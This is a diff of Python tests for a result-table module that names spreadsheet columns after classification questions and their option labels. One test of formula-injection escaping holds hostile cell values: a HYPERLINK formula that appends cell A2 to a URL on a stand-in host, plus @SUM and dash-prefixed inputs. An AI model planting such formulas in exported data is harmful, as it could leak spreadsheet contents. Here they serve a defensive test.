@@ -38,10 +38,12 @@ def test_the_columns_follow_the_question_order_and_each_type_rule():
         "custom_id", "status", "error_type", "error_message",
         "team", "team.confidence", "team.p.billing", "team.p.shipping",
         "refund",
-        "urgency", "urgency.confidence", "urgency.p.0", "urgency.p.1", "urgency.p.2"]
+        "urgency", "urgency.confidence", "urgency.p.0: whenever", "urgency.p.1: soon",
+        "urgency.p.2: now"]
     reordered = {"urgency": QUESTIONS["urgency"], "refund": QUESTIONS["refund"]}
     assert result_table.columns(parsed(reordered))[4:] == [
-        "urgency", "urgency.confidence", "urgency.p.0", "urgency.p.1", "urgency.p.2", "refund"]
+        "urgency", "urgency.confidence", "urgency.p.0: whenever", "urgency.p.1: soon",
+        "urgency.p.2: now", "refund"]
 
 
 def test_a_list_of_options_keeps_its_order():
@@ -77,7 +79,7 @@ def test_a_taught_question_adds_the_taught_column_and_a_zero_shot_one_does_not()
     header = result_table.columns(questions)
     assert header[4:13] == ["team", "team.confidence", "team.p.billing", "team.p.shipping",
                             "refund", "refund.taught",
-                            "urgency", "urgency.confidence", "urgency.p.0"]
+                            "urgency", "urgency.confidence", "urgency.p.0: whenever"]
     answers = {**ANSWERS, "refund": {**ANSWERS["refund"], "x_taught": "tq_0123"}}
     cells = result_table.row(questions, {"custom_id": "a", "status": "succeeded",
                                          "result": {"answers": answers}})
@@ -106,7 +108,7 @@ def test_a_text_cell_a_spreadsheet_would_run_as_a_formula_is_quoted():
         "s": {"type": "score", "instructions": "?", "criteria": ["low", "high"]}})
     assert result_table.columns(questions)[4:] == [
         "'-pick", "'-pick.confidence", "'-pick.p.=HYPERLINK(\"http://x/?\"&A2,\"open\")",
-        "'-pick.p.@SUM(1)", "s", "s.confidence", "s.p.0", "s.p.1"]
+        "'-pick.p.@SUM(1)", "s", "s.confidence", "s.p.0: low", "s.p.1: high"]
     answers = {"-pick": {"choice": "@SUM(1)", "confidence": -0.25,
                          "probabilities": {"@SUM(1)": 0.6}},
                "s": {"score": -1.5, "confidence": 0.1, "probabilities": {"0": 0.5}}}
